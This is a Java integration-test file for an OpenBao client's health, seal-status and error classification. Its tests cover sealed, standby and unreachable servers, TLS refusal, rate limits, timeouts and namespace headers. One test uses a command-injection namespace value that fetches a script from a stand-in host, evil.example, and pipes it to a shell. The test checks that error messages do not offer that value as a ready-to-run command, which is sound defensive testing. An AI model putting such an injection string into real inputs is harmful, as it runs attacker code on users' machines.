package io.mcpctl.sandbox.openbao.conformance;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.mcpctl.openbao.HealthState;
import io.mcpctl.openbao.HealthStatus;
import io.mcpctl.openbao.OpenBaoClient;
import io.mcpctl.openbao.OpenBaoConnection;
import io.mcpctl.openbao.RateLimitedException;
import io.mcpctl.openbao.SealStatus;
import io.mcpctl.openbao.SealedException;
import io.mcpctl.openbao.ServerErrorException;
import io.mcpctl.openbao.TokenCreateRequest;
import io.mcpctl.openbao.TokenRejectedException;
import io.mcpctl.openbao.UnreachableException;
import io.mcpctl.openbao.VaultToken;
import io.mcpctl.sandbox.openbao.Fault;
import io.mcpctl.sandbox.openbao.RequestRecord;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.time.Duration;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** Health and seal status, classified by the client, and the errors that come before the token. */
@ExtendWith(BaoTargetExtension.class)
class HealthConformanceIT {

  @Test
  void anActiveServerIsHealthyAndUnsealed(BaoTarget bao) {
    HealthStatus health = bao.anonymous().health();
    assertThat(health.state()).isEqualTo(HealthState.ACTIVE);
    assertThat(health.httpStatus()).isEqualTo(200);
    assertThat(health.version()).isPresent();
    SealStatus seal = bao.anonymous().sealStatus();
    assertThat(seal.initialized()).isTrue();
    assertThat(seal.sealed()).isFalse();
    assertThat(seal.type()).isNotBlank();
  }

  @Test
  @StandInOnly("seals, unseals and switches the node to standby")
  void sealedStandbyAndUninitialisedAreToldApart(BaoTarget bao) {
    OpenBaoClient client = bao.anonymous();
    bao.standIn().setStandby(true);
    assertThat(client.health().state()).isEqualTo(HealthState.STANDBY);
    bao.standIn().setStandby(false);
    bao.standIn().seal();
    assertThat(client.health().state()).isEqualTo(HealthState.SEALED);
    assertThat(client.sealStatus().sealed()).isTrue();
    bao.standIn().setInitialized(false);
    assertThat(client.health().state()).isEqualTo(HealthState.UNINITIALISED);
  }

  @Test
  @StandInOnly("seals the server")
  void aSealedServerAnswers503BeforeLookingAtTheToken(BaoTarget bao) {
    bao.standIn().seal();
    OpenBaoClient bogus = bao.as(VaultToken.of("s.notarealtokennotarealtok"));
    assertThatThrownBy(bogus::lookupSelf).isInstanceOf(SealedException.class);
    assertThatThrownBy(() -> bao.admin().kv("secret").get("x")).isInstanceOf(SealedException.class);
    bao.standIn().unseal();
    assertThatThrownBy(bogus::lookupSelf).isInstanceOf(TokenRejectedException.class);
  }

  @Test
  void nothingListeningIsUnreachable(BaoTarget bao) throws IOException {
    int port;
    try (ServerSocket free = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
      port = free.getLocalPort();
    }
    OpenBaoClient nowhere = OpenBaoClient.connect(OpenBaoConnection.of("http://127.0.0.1:" + port));
    assertThat(nowhere.health().state()).isEqualTo(HealthState.UNREACHABLE);
    assertThatThrownBy(() -> nowhere.withToken(VaultToken.of("s.x")).lookupSelf())
        .isInstanceOf(UnreachableException.class);
  }

  @Test
  void httpsWithoutTrustingTheCaIsRefused(BaoTarget bao) {
    if (!bao.connection().address().getScheme().equals("https")) {
      return;
    }
    OpenBaoClient untrusting =
        OpenBaoClient.connect(OpenBaoConnection.of(bao.connection().address().toString()));
    assertThat(untrusting.health().state()).isEqualTo(HealthState.TLS_REFUSED);
  }

  @Test
  @StandInOnly("injects faults")
  void rateLimitsAndServerErrorsAreTyped(BaoTarget bao) {
    // A real server sends Retry-After only with the rate-limit response headers on.
    bao.sendWithAdmin(
        "POST", "sys/quotas/config", "{\"enable_rate_limit_response_headers\": true}");
    bao.standIn()
        .faults()
        .add(
            Fault.on("GET", "auth/token/lookup-self")
                .rateLimited(Duration.ofSeconds(7))
                .times(1)
                .build());
    assertThatThrownBy(() -> bao.admin().lookupSelf())
        .isInstanceOfSatisfying(
            RateLimitedException.class,
            limited -> assertThat(limited.retryAfter()).contains(Duration.ofSeconds(7)));
    bao.standIn()
        .faults()
        .add(Fault.on("GET", "auth/token/lookup-self").respond(500).times(1).build());
    assertThatThrownBy(() -> bao.admin().lookupSelf()).isInstanceOf(ServerErrorException.class);
    assertThat(bao.admin().lookupSelf().policies()).containsExactly("root");
  }

  @Test
  @StandInOnly("reads the stand-in's request log")
  void theNamespaceHeaderIsNeverSentToHealth(BaoTarget bao) {
    OpenBaoConnection withNamespace =
        OpenBaoConnection.builder(bao.connection().address().toString())
            .caBundlePem(bao.standIn().caCertificatePem().orElseThrow())
            .namespace("team-a/")
            .build();
    OpenBaoClient client = OpenBaoClient.connect(withNamespace);
    assertThat(client.health().state()).isEqualTo(HealthState.ACTIVE);
    client.sealStatus();
    assertThat(bao.standIn().requestLog().entries())
        .filteredOn(record -> record.path().startsWith("/v1/sys/"))
        .isNotEmpty()
        .allSatisfy(record -> assertThat(record.namespace()).isEmpty());
    assertThatThrownBy(() -> client.withToken(bao.standIn().rootToken()).lookupSelf())
        .hasMessageContaining("has no namespace team-a/");
    assertThat(bao.standIn().requestLog().entries())
        .filteredOn(record -> record.path().equals("/v1/auth/token/lookup-self"))
        .extracting(RequestRecord::namespace)
        .containsExactly(Optional.of("team-a/"));
  }

  @Test
  @StandInOnly("sends a namespace name a real server might refuse before looking it up")
  void aMissingNamespaceAShellWouldActOnIsNotOfferedInACommand(BaoTarget bao) {
    String hostile = "x$(curl${IFS}evil.example|sh)";
    OpenBaoClient client =
        OpenBaoClient.connect(
            OpenBaoConnection.builder(bao.connection().address().toString())
                .caBundlePem(bao.standIn().caCertificatePem().orElseThrow())
                .namespace(hostile)
                .build());

    assertThatThrownBy(() -> client.withToken(bao.standIn().rootToken()).lookupSelf())
        .hasMessageContaining("has no namespace " + hostile + " (")
        .hasMessageContaining("creates one with 'bao namespace create', after checking")
        .satisfies(failure -> assertThat(failure.getMessage()).doesNotContain("create " + hostile));
  }

  @Test
  @StandInOnly("injects latency and dropped connections")
  void slowAndDroppedAnswersAreUnreachableNotSuccesses(BaoTarget bao) {
    OpenBaoClient impatient =
        OpenBaoClient.connect(
                OpenBaoConnection.builder(bao.connection().address().toString())
                    .caBundlePem(bao.standIn().caCertificatePem().orElseThrow())
                    .requestTimeout(Duration.ofMillis(300))
                    .build())
            .withToken(bao.standIn().rootToken());
    bao.standIn()
        .faults()
        .add(
            Fault.on("POST", "auth/token/renew-self")
                .delay(Duration.ofSeconds(2))
                .times(1)
                .build());
    assertThatThrownBy(impatient::renewSelf)
        .isInstanceOfSatisfying(
            UnreachableException.class,
            failure ->
                assertThat(failure.reason())
                    .isEqualTo(UnreachableException.Reason.REQUEST_TIMEOUT));
    bao.standIn()
        .faults()
        .add(Fault.on("POST", "auth/token/create").dropConnection().times(1).build());
    assertThatThrownBy(() -> bao.admin().createToken(TokenCreateRequest.builder().build()))
        .isInstanceOfSatisfying(
            UnreachableException.class,
            failure ->
                assertThat(failure.reason())
                    .isEqualTo(UnreachableException.Reason.CONNECTION_RESET));
    assertThat(bao.standIn().requestLog().entries())
        .filteredOn(record -> record.path().equals("/v1/auth/token/create"))
        .hasSize(1);
  }
}
